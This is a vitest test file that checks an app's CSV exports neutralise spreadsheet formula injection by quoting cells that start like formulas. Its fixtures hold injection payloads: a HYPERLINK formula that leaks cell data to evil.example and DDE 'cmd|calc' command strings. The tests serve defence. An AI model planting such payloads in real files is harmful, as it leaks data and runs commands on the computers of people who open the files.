/**
 * Formula injection through the CSV files the API answers (060-csv-formulas-filter-depth-floor-rights.md): text that
 * a spreadsheet would read as a formula comes back with a single quote in front and quoted, from the call search's
 * export and from the outbound import's problems list; the app's own numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { rowsOf } from '../db/client.js';
import { createTestApp, type TestApp } from '../test/harness.js';
import { addFixtureCustomers, preview } from '../features/outbound-import/test-support.js';

let t: TestApp;
let admin: string;

beforeAll(async () => {
  t = await createTestApp();
  await addFixtureCustomers(t.db);
  admin = await t.signin('admin');
});
afterAll(async () => {
  await t.close();
});

/** A CSV answer's records, the header first (the byte-order mark dropped). */
const records = (body: string): string[][] => parse(body.replace(/^\ufeff/, ''), { relax_column_count: true });

/** The text of a cell as it must be written: a quote in front, inside double quotes (their own doubled). */
const neutralised = (text: string) => `"'${text.replaceAll('"', '""')}"`;

describe('the call search export', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|calc',
    '-2+3+cmd|calc',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
  ];

  it('writes a name that starts like a formula as quoted text with a single quote in front', async () => {
    const calls = rowsOf<{ outbound_id: number }>(
      await t.db.execute(sql`select outbound_id from outbound_calls where deleted_at is null
        order by outbound_id limit ${FORMULAS.length}`),
    ).map((r) => r.outbound_id);
    for (const [i, id] of calls.entries()) {
      await t.db.execute(sql`update outbound_calls set first_name = ${FORMULAS[i]}, last_name = 'Plain',
        call_attempts = 0 where outbound_id = ${id}`);
    }
    const query = new URLSearchParams({ $filter: `OutboundId in (${calls.join(',')})`, $orderby: 'OutboundId' });
    const response = await t.call(admin, {
      method: 'GET',
      url: `/api/odata/GetSearchOutboundCalls/export?${query.toString()}`,
    });
    expect(response.statusCode, response.body).toBe(200);
    const [header, ...rows] = records(response.body);
    const column = (name: string) => header!.indexOf(name);
    expect(rows.map((r) => r[column('FirstName')])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows.map((r) => r[column('LastName')])).toEqual(FORMULAS.map(() => 'Plain'));
    // Each such cell is quoted in the file itself, not only where CSV needs quotes.
    for (const formula of FORMULAS) expect(response.body).toContain(`,${neutralised(formula)},`);
    // The app's own numbers are no user's text: written as they are.
    expect(rows.map((r) => r[column('CallAttempts')])).toEqual(FORMULAS.map(() => '0'));
    expect(rows.map((r) => Number(r[column('OutboundId')]))).toEqual(calls);
  });
});

describe("the outbound import's problems list", () => {
  it("writes a dropped row's name and branch that start like a formula as quoted text with a quote in front", async () => {
    const names = ['=HYPERLINK("http://evil.example","Click")', '+1+cmd|calc', '-2+3', '@SUM(1,1)', '\t=1+1'];
    const header =
      'Branch Num,Cust Num,FirstName,StreetAddress,City,State,zip,LawnSize,PriceOffer,Service,Cancel Date,CallSource';
    const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
    // Unknown branches: every row is dropped, and the problems list shows its branch and name.
    const lines = names.map(
      (name, i) =>
        `=1+${i},91000${i + 1},${quote(name)},1 Main St,Naperville,IL,60540,5,40,Core Aeration,11/2/2026,List`,
    );
    const p = await preview(t, admin, 'Cancel', [header, ...lines].join('\r\n'));
    expect(p.dropped).toBe(names.length);
    const response = await t.call(admin, {
      method: 'GET',
      url: `/api/Utilities/outboundImports/${p.importId}/problems`,
    });
    expect(response.statusCode, response.body).toBe(200);
    const [head, ...rows] = records(response.body);
    expect(head).toEqual(['Line', 'Reason', 'Branch', 'Customer', 'Name']);
    // The name is kept trimmed (a leading tab goes), so that one starts with '=' and is still neutralised.
    expect(rows.map((r) => r[4])).toEqual(names.map((n) => `'${n.trim()}`));
    expect(rows.map((r) => r[2])).toEqual(names.map((_, i) => `'=1+${i}`));
    for (const name of names) expect(response.body).toContain(`,${neutralised(name.trim())}\r\n`);
    // Line numbers and customer numbers are the app's numbers: as they are.
    expect(rows.map((r) => r[0])).toEqual(names.map((_, i) => String(i + 2)));
    expect(rows.map((r) => r[3])).toEqual(names.map((_, i) => `91000${i + 1}`));
  });
});
